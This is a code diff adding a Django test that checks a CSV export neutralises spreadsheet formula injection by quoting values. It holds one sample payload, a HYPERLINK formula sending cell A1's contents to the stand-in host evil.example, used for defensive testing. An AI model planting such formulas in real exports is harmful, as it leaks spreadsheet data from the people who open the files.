@@ -265,3 +265,18 @@ def test_downloads_cost_a_few_queries_per_thousand_cases_not_per_case(
     with django_assert_max_num_queries(12):
         # facets for validation (2), the ids, the sources, then six queries per chunk
         assert len(csv_rows(client)) == 72
+
+
+def test_formulas_in_a_case_are_text_in_the_csv_and_as_they_are_in_json(client):
+    case = Innovation.objects.get(slug="design-thinking")
+    case.title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    case.summary = "-2+3"
+    case.save()
+    case.impacts.all().delete()
+    case.impacts.create(statement="@SUM(1)", position=1)
+    [row] = [r for r in csv_rows(client) if r["slug"] == "design-thinking"]
+    assert row["title"] == "'" + case.title
+    assert row["summary"] == "'-2+3"
+    assert row["impacts"] == "'@SUM(1)"
+    [record] = [r for r in json_records(client)["innovations"] if r["slug"] == "design-thinking"]
+    assert record["title"] == case.title and record["summary"] == "-2+3"
